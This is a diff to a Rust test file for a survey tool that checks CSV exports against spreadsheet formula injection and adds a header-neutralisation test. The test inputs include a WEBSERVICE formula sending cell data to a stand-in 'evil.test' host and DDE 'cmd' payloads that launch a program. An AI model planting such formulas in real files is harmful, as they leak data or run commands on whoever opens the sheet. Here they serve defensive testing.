@@ -3,6 +3,7 @@
 use std::os::unix::fs::PermissionsExt;
 
 use qingting::survey::Value;
+use serde_json::json;
 
 use crate::support::{Folder, Process, SURVEY, TestServer, qingting, sheet_of};
 
@@ -223,7 +224,81 @@ const FORMULAS: &[&str] = &[
     "-1;=1",
     "=1,2",
     "=\"\"\"",
+    "=WEBSERVICE(\"http://evil.test/\"&A1)",
+    "=RTD(\"x\";\"y\")",
+    "@A1",
+    "+A1",
+    "-A1",
+    "=A1",
+    "\t@SUM(1)",
+    "\r\n=1+1",
+    "＝cmd|'/C calc'!A0",
+    "-1+cmd|' /C calc'!A0",
 ];
+
+/// Whether a spreadsheet would take a cell for a formula.
+fn is_formula(cell: &str) -> bool {
+    let first = [
+        '=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠',
+    ];
+    cell.parse::<f64>().is_err() && cell.starts_with(first)
+}
+
+#[test]
+fn names_of_questions_are_no_formulas_in_the_header() {
+    let server = TestServer::start();
+    let file = server.folder.path().join("formulas.json");
+    // What a survey's name may be is the maker's; the table is opened by somebody else.
+    let names = ["=1+1", "+1", "-A1", "@SUM(1)", "＝1+1"];
+    let elements: Vec<_> = names
+        .iter()
+        .map(|name| json!({"type": "text", "name": name}))
+        .collect();
+    std::fs::write(&file, json!({"elements": elements}).to_string()).unwrap();
+    let publish = ["survey", "publish", file.to_str().unwrap()];
+    let (code, _, said) = qingting(&publish, server.folder.path());
+    assert_eq!(code, Some(0), "{said}");
+    let answers: Vec<_> = names
+        .iter()
+        .map(|name| (*name, Value::from("=2")))
+        .collect();
+    let mut body = sheet_of(1, 1, true, &answers);
+    body.set("survey", Value::from("formulas"));
+    server.post(&body, 201);
+    let export = |format: &str| {
+        let words = [
+            "export",
+            "responses",
+            "--format",
+            format,
+            "--survey",
+            "formulas",
+        ];
+        qingting(&words, server.folder.path()).1
+    };
+    let table = export("csv");
+    let mut reader = csv::Reader::from_reader(table.trim_start_matches('\u{feff}').as_bytes());
+    let header = reader.headers().unwrap().clone();
+    for name in names {
+        assert!(
+            header.iter().any(|known| known == format!("'{name}")),
+            "{name} in {header:?}"
+        );
+    }
+    assert!(!header.iter().any(is_formula));
+    assert!(
+        reader
+            .records()
+            .map(Result::unwrap)
+            .all(|row| !row.iter().any(is_formula))
+    );
+    // For machines everything is as it was sent, and the control: there it would be one.
+    let lines = export("jsonl");
+    assert!(
+        lines.contains("\"=1+1\":\"=2\"") && is_formula("=2"),
+        "{lines}"
+    );
+}
 
 #[test]
 fn csv_opens_in_a_spreadsheet_with_chinese_intact_and_no_formula() {
@@ -303,14 +378,7 @@ fn csv_opens_in_a_spreadsheet_with_chinese_intact_and_no_formula() {
     }
     for row in &rows {
         for cell in row {
-            let is_number = cell.parse::<f64>().is_ok();
-            assert!(
-                is_number
-                    || !cell.starts_with([
-                        '=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'
-                    ]),
-                "{cell:?}"
-            );
+            assert!(!is_formula(cell), "{cell:?}");
         }
     }
     assert_eq!(&rows[FORMULAS.len()][column("words")], words);
